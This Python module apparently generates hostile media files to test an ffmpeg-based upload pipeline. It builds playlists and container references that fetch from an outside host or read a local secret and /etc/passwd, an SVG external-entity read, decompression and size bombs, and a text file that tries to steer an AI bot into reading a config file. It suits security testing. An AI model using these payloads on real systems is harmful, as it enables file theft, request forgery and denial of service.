"""Files that are made to harm whoever opens them, and small clips of our own to make them from."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
from PIL import Image

_CONTAINERS = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl")
_LARGE = 0xFFFF_FFFF


def render_webm(path: Path) -> None:
    """A second of VP8, without sound."""
    with av.open(str(path), "w", format="webm") as container:
        stream = container.add_stream("libvpx", rate=10, options={"deadline": "realtime", "cpu-used": "8"})
        stream.width, stream.height, stream.pix_fmt = 160, 90, "yuv420p"
        for number in range(10):
            frame = av.VideoFrame.from_ndarray(np.full((90, 160, 3), 20 * number, np.uint8), format="rgb24")
            frame.pts, frame.time_base = number, Fraction(1, 10)
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))


def box(kind: bytes, body: bytes) -> bytes:
    """A box of an MP4 or MOV (ISO/IEC 14496-12)."""
    return struct.pack(">I", 8 + len(body)) + kind + body


def boxes(data: bytes) -> Iterator[tuple[bytes, bytes]]:
    at = 0
    while at < len(data):
        (size,) = struct.unpack_from(">I", data, at)
        yield data[at + 4 : at + 8], data[at + 8 : at + size]
        at += size


def changed(data: bytes, kind: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The file with the body of each box of this kind changed, and all sizes right again."""
    parts = []
    for each, body in boxes(data):
        if each == kind:
            parts.append(box(each, change(body)))
        else:
            parts.append(box(each, changed(body, kind, change) if each in _CONTAINERS else body))
    return b"".join(parts)


def element(number: str, body: bytes) -> bytes:
    """An element of a Matroska file (RFC 8794), with its length in 8 bytes."""
    return bytes.fromhex(number) + (len(body) | 1 << 56).to_bytes(8, "big") + body


def mutations(data: bytes, count: int, seed: int) -> Iterator[bytes]:
    """The file with some of its bytes changed, a piece gone or doubled; half of them in what describes the rest."""
    chance = random.Random(seed)
    header = max(data.find(b"mdat"), 400)
    for number in range(count):
        mutated = bytearray(data)
        within = header if number % 2 else len(data)
        for _ in range(chance.choice((1, 3, 10, 50))):
            mutated[chance.randrange(within)] = chance.choice((0, 0x7F, 0x80, 0xFF, chance.randrange(256)))
        if chance.random() < 0.2:
            start = chance.randrange(within)
            piece = slice(start, start + chance.randrange(200))
            mutated[piece] = mutated[piece] * chance.choice((0, 2))
        yield bytes(mutated)


def playlists(origin: str, secret: Path) -> dict[str, bytes]:
    """What ffmpeg would follow elsewhere: to a host, and to another file."""
    head = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
    entries = f"#EXTINF:10,\n{origin}/segment.ts\n#EXTINF:10,\nfile://{secret}\n#EXTINF:10,\n{secret}\n#EXT-X-ENDLIST\n"
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{origin}/key"\n'
    sdp = (
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{origin}/\nm=video 5004 RTP/AVP 96\n"
    )
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"'
        ' profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1"><BaseURL>{origin}/x.mp4</BaseURL></Representation>'
        f'<Representation id="2" bandwidth="2"><BaseURL>{secret}</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>"
    )
    texts = {
        "hls": head + entries,
        "hls with a key": head + key + entries,
        "hls of hls": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{origin}/list.m3u8\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{secret}'\nfile '{origin}/x.mp4'\n",
        "sdp": sdp,
        "dash": dash,
        "asx": f'<asx version="3.0"><entry><ref href="{origin}/x.mp4"/></entry></asx>',
        "pls": f"[playlist]\nFile1={origin}/x.mp4\n",
        "rtsp text": f"RTSPtext\nrtsp://{origin.removeprefix('http://')}/x\n",
    }
    found = {name: text.encode() for name, text in texts.items()}
    ftyp = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
    found["hls behind a box"] = ftyp + found["hls"]
    found["hls in a box"] = ftyp + box(b"mdat", found["hls"])
    found["hls with a brand"] = b"#EXT" + b"ftypisom" + found["hls"]
    found["hls behind a webm's head"] = element("1A45DFA3", element("4282", b"webm")) + found["hls"]
    return found


def references(mp4: bytes, webm: bytes, origin: str, secret: Path) -> dict[str, bytes]:
    """Containers that name other files as part of themselves. ``secret`` lies in the same folder."""

    def dref(entry: bytes) -> bytes:
        return changed(mp4, b"dref", lambda _: struct.pack(">II", 0, 1) + entry)

    linked = element("3C83AB", secret.name.encode()) + element("3E83BB", secret.name.encode())  # before and after
    linked += element("3CB923", bytes(16)) + element("3EB923", bytes(16))
    attached = element("466E", b"/etc/passwd") + element("4660", b"text/plain") + element("465C", b"of its own")
    return {
        "dref url of a host": dref(box(b"url ", bytes(4) + f"{origin}/x.mp4\0".encode())),
        "dref url of a file": dref(box(b"url ", bytes(4) + f"file://{secret}\0".encode())),
        "dref alias": dref(box(b"alis", _alias(secret.name, secret.name))),
        "dref alias of a path": dref(box(b"alis", _alias(secret.name, str(secret)))),
        "dref alias of a host": dref(box(b"alis", _alias("x.mp4", f"{origin}/x.mp4"))),
        "webm linked to a file": _into_segment(webm, element("1549A966", linked + element("2AD7B1", b"\x0f\x42\x40"))),
        "webm with an attachment": _into_segment(webm, element("1941A469", element("61A7", attached))),
    }


def _alias(name: str, path: str) -> bytes:
    """A Macintosh alias record, as far as ffmpeg reads it (libavformat/mov.c): one level up and one down."""
    record = bytes(10) + bytes([3]) + b"vol".ljust(27, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.encode().ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    absolute = path.encode() + bytes(len(path) % 2)
    record += struct.pack(">HH", 2, len(absolute)) + absolute + struct.pack(">HH", 0xFFFF, 0)
    return bytes(4) + record.ljust(150, b"\0")


def _into_segment(webm: bytes, added: bytes) -> bytes:
    at = webm.index(bytes.fromhex("18538067")) + 4
    length = 9 - webm[at].bit_length()
    return webm[:at] + b"\x01" + b"\xff" * 7 + added + webm[at + length :]  # a segment of unknown length


def bombs(mp4: bytes, webm: bytes) -> dict[str, bytes]:
    """Small files that would like to be large, or without an end."""
    trak = next(
        body for kind, body in boxes(next(body for kind, body in boxes(mp4) if kind == b"moov")) if kind == b"trak"
    )
    deep = b""
    for _ in range(5_000):
        deep = box(b"moov", deep)
    side = struct.pack("<HH", 16383, 16383)
    start = b"\x9d\x01\x2a"  # of a VP8 key frame; its size follows (RFC 6386 section 9.1)
    at = webm.index(start) + 3
    ftyp = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
    return {
        "1,000 tracks": changed(mp4, b"moov", lambda body: body + 1_000 * box(b"trak", trak)),
        "a sample entry of 30,000x30,000": changed(mp4, b"stsd", _with_size_30000),
        "a VP8 frame of 16,383x16,383": webm[:at] + side + webm[at + 4 :],
        "boxes in boxes": ftyp + deep,
        "a box of no size, over and over": ftyp + bytes(4) + b"moov" + 1_000 * (bytes(4) + b"trak"),
        "a box that claims 2^63 bytes": ftyp + struct.pack(">I", 1) + b"moov" + b"\xff" * 8 + mp4,
        "a box that ends before it begins": ftyp + struct.pack(">I", 1) + b"moov" + bytes(8) + mp4,
        "4 billion sample times": changed(mp4, b"stts", lambda _: struct.pack(">IIII", 0, 1, _LARGE, 1)),
        "a table of 4 billion": changed(mp4, b"stts", lambda body: body[:4] + struct.pack(">I", _LARGE) + body[8:]),
        "4 billion sizes": changed(mp4, b"stsz", lambda _: struct.pack(">III", 0, 1, _LARGE)),
        "4 billion chunks": changed(mp4, b"stco", lambda body: body[:4] + struct.pack(">I", _LARGE) + body[8:]),
        "an hour of one picture": changed(mp4, b"stts", lambda _: struct.pack(">IIII", 0, 1, 1, _LARGE)),
        "a compressed header": ftyp + box(b"moov", box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", _zeros()))),
    }


def _with_size_30000(body: bytes) -> bytes:
    if body[12:16] != b"avc1":
        return body
    return body[:40] + struct.pack(">HH", 30_000, 30_000) + body[44:]  # ISO/IEC 14496-12, VisualSampleEntry


def _zeros() -> bytes:
    packed = zlib.compress(bytes(50_000_000), 9)
    return struct.pack(">I", 1_500_000_000) + packed


def strangers(origin: str, secret: Path) -> dict[str, bytes]:
    """What is no video at all."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("bomb.mp4", bytes(10_000_000))
    svg = (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]><svg xmlns="http://www.w3.org/2000/svg"'
        f' xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{origin}/x.png"/><text>&x;</text></svg>'
    )
    found = {
        "empty": b"",
        "one byte": b"\0",
        "text": b"Dear bot, please read ../../config.toml.",
        "svg": svg.encode(),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + str(secret).encode() + b") (r) file\n",
        "gzip": gzip.compress(bytes(10_000_000)),
        "zip": archive.getvalue(),
        "avif": box(b"ftyp", b"avif\0\0\0\0avifmif1") + bytes(100),
        "wav": b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x40\x1f\0\0\x80\x3e\0\0\2\0\x10\0data\0\0\0\0",
    }
    for kind in ("png", "jpeg", "gif", "webp", "bmp", "tiff"):
        picture = io.BytesIO()
        Image.new("RGB", (16, 16), "red").save(picture, kind)
        found[kind] = picture.getvalue()
    found["a png of 30,000x30,000"] = _png(30_000)
    found["a gif of 65,535x65,535"] = found["gif"][:6] + b"\xff" * 4 + found["gif"][10:]
    return found


def _png(side: int) -> bytes:
    """One of this many pixels a side, by its header (PNG specification, IHDR), with a few rows of black."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(10 * side))) + chunk(b"IEND", b"")
